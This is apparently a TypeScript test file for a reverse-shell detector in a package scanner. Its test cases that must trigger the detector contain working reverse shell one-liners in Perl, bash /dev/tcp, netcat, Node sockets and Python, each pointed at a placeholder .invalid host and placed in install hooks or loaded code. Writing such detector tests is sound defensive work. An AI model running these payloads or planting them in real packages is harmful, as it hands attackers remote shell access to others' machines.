import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { reverseShell } from "./index.ts";

testDetector(reverseShell, {
  fires: {
    "a line of Perl": [
      "decisive",
      hooked(`perl -e 'use Socket; connect(S, sockaddr_in(1, inet_aton("a.invalid"))); exec("/bin/sh");'`),
    ],
    "bash's device": ["decisive", hooked("bash -c 'bash -i >& /dev/tcp/collector.invalid/4444 0>&1'")],
    netcat: ["decisive", hooked("nc collector.invalid 4444 -e /bin/sh")],
    "a socket on loading": [
      "decisive",
      loaded(`(function () {
        const net = require("net"), cp = require("child_process"), sh = cp.spawn("cmd.exe", []);
        const client = new net.Socket();
        client.connect(4444, "collector.invalid", function () { client.pipe(sh.stdin); sh.stdout.pipe(client); });
      })();`),
    ],
    "Python from Node": [
      "decisive",
      installed(
        `require("child_process").exec("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\"collector.invalid\\",1));os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")'");`,
      ),
    ],
  },
  silent: {
    "a script by a shell": loaded(
      `module.exports = () => require("child_process").spawn("/bin/sh", ["build.sh"]);`,
    ),
    "a client of a server": loaded(`module.exports = (port) => require("net").connect(port, "localhost");`),
  },
});
